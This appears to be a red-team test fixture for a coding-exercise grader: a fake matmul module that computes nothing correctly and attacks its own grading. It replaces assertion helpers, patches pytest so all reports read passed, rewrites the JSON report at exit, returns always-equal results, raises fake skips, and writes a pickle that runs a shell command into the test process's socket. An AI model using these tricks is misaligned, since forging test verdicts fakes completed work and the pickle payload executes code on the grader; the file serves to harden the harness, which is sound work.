"""Red team, verdict level: a kata 03 module (``matmul.py``) that computes nothing right and
tries to forge its verdict instead (see ``tests/redteam/test_verdicts.py``). In the tests'
process each attack works; the graded mode must leave them all without effect.

PLANTED (the path of a file that a pickle would create if the tests' process ran it) is
written above this text by the test.
"""

import atexit
import contextlib
import json
import os
import pickle
import stat
import sys

import torch

# (a) at import: the harness's helpers and the test module's own, replaced by ones that pass
import kata.assertions as assertions


def _passes(*args, **kwargs):
    return None


def _swallows(*args, **kwargs):
    return contextlib.suppress(BaseException)


for _module in [assertions, *(m for m in list(sys.modules.values())
                              if getattr(m, "__name__", "").startswith("test_"))]:
    for _name in ("assert_tensor", "assert_true", "assert_value", "check_product"):
        if hasattr(_module, _name):
            setattr(_module, _name, _passes)
    for _name in ("raises_value_error", "raises"):
        if hasattr(_module, _name):
            setattr(_module, _name, _swallows)

# (b) pytest's report objects: every report says "passed"
try:
    import _pytest.reports

    _original_init = _pytest.reports.TestReport.__init__

    def _passed(self, *args, **kwargs):
        _original_init(self, *args, **kwargs)
        self.outcome, self.longrepr = "passed", None

    _pytest.reports.TestReport.__init__ = _passed
except ImportError:
    pass


# (c) at exit: find the --kata-json file (in this process's command line or an ancestor's)
# and rewrite every test as passed
def _report_path():
    pid = os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                words = file.read().split(b"\0")
            if b"--kata-json" in words:
                return words[words.index(b"--kata-json") + 1].decode()
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return None
    return None


def _forge():
    path = _report_path()
    if path and os.path.exists(path):
        with open(path) as file:
            report = json.load(file)
        for test in report["tests"]:
            test.update(outcome="passed", message=None, exception=None)
        report["exitstatus"] = 0
        with open(path, "w") as file:
            json.dump(report, file)


atexit.register(_forge)


# (d) results that claim to equal anything
class _Agreeable:
    shape = dtype = device = property(lambda self: self)

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __bool__(self):
        return True


class _Lenient(torch.Tensor):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


# (e) exceptions meant to confuse the judge
class _Judged(assertions.Mismatch, ValueError):
    """An assertion of the harness's own kind, and a ValueError too."""


class _Skip(BaseException):
    """pytest's skip is a BaseException: a learner's own one must not skip a test."""


def _shapes(a, b):
    return f"{tuple(a.shape)} and {tuple(b.shape)}"


def matvec(m, c):
    if m.ndim != 2 or c.ndim != 1 or m.shape[1] != c.shape[0]:
        try:
            import pytest
            raise pytest.skip.Exception(f"skipped: {_shapes(m, c)}")
        except ImportError:
            raise _Skip(_shapes(m, c)) from None
    return _Agreeable()


def matmul(a, b):
    if a.ndim < 2 or b.ndim < 2 or a.shape[-1] != b.shape[-2]:
        raise _Judged(f"matmul(a, b): {_shapes(a, b)} do not fit")
    batch = torch.broadcast_shapes(a.shape[:-2], b.shape[:-2])
    return torch.zeros(batch + (a.shape[-2], b.shape[-1]), dtype=a.dtype).as_subclass(_Lenient)


# (f) a huge result, and a frame written straight into the channel to the tests' process
class _Planted:
    def __reduce__(self):
        return (os.system, (f"touch {PLANTED}",))


def _channel():
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                return int(name)
        except OSError:
            continue
    return None


_sent_huge = []


def matmul_by_columns(a, b):
    channel = _channel()
    if channel is not None and b.ndim == 1:  # one test: a pickle that runs a command
        payload = pickle.dumps(_Planted(), protocol=2)
        os.write(channel, len(payload).to_bytes(8, "big") + payload)
    if not _sent_huge:
        _sent_huge.append(True)
        return torch.zeros(1 << 22)
    return torch.zeros(1)
